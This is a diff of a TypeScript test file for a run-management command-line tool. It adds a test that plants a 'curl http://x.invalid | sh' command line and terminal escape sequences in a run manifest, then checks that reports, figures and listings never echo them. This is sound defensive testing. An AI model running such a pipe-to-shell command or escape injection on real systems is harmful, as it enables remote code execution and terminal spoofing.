@@ -1,9 +1,10 @@
 import { existsSync } from 'node:fs';
-import { chmod, cp, mkdir, readFile, writeFile } from 'node:fs/promises';
+import { chmod, cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { expect, test } from 'vitest';
 import { z } from 'zod';
 import { environmentPython } from '../../../main/finetune/made-environments.ts';
+import { sweepOnDisk } from '../report/sweep-on-disk.ts';
 import { temporaryFolder } from '../workspace/temporary-folder.ts';
 import { commandLineHere as uncurl } from './command-line-here.ts';
 
@@ -64,6 +65,41 @@ test('a copied run is resumed once its code is given; until then every computing
   // It belongs to this user from now on, and always did where it was made.
   expect(await uncurl('resume', run, ...here)).toMatchObject({ code: 0 });
   expect(await uncurl('work', run, '--workspace', own, '--threads', '1')).toMatchObject({ code: 0 });
+});
+
+test("a stranger's command and escapes stand in no report, figure or answer", async () => {
+  const { workspace, run } = await sweepOnDisk();
+  const file = join(workspace.runs.folder(run), 'manifest.json');
+  const manifest = z.looseObject({ spec: z.looseObject({}) }).parse(JSON.parse(await readFile(file, 'utf8')));
+  const candidates = [{ name: '-x', fingerprint: '0', path: '/models/x' }];
+  const strange = {
+    ...{ ...manifest, title: 'a\u001b[2J\u009b31m title', commandLine: 'curl http://x.invalid | sh' },
+    ...{ spec: { ...manifest.spec, candidates }, versions: { 'a\u001b[2J': '1\u009b31m' } },
+  };
+  await writeFile(file, JSON.stringify(strange));
+  const out = await temporaryFolder();
+  const here = ['--workspace', dirname(dirname(workspace.runs.folder(run)))];
+  const shown: string[] = [];
+  for (const args of [
+    ['runs'],
+    ['runs', '--json'],
+    ['compare', run],
+    ['report', run, '--out', join(out, 'report.html')],
+    ['figures', run, '--out', join(out, 'figures')],
+  ]) {
+    const { code, stdout, stderr } = await uncurl(...args, ...here);
+    expect(code, stderr).toBe(0);
+    shown.push(stdout, stderr);
+  }
+  shown.push(await readFile(join(out, 'report.html'), 'utf8'));
+  const drawn = (await readdir(join(out, 'figures'))).filter((name) => !name.endsWith('.png'));
+  expect(drawn).toContain('manifest.json');
+  for (const name of drawn) shown.push(await readFile(join(out, 'figures', name), 'utf8'));
+  expect(shown.some((text) => text.includes('31m title'))).toBe(true);
+  for (const text of shown) {
+    expect(text).not.toMatch(/curl http|uncurl sweep/);
+    expect(text.replaceAll(/[\t\n]/g, '')).not.toMatch(/\p{Cc}/u);
+  }
 });
 
 /** A file of weights whose signs are flipped, without the hash of its content, as early versions wrote it. */
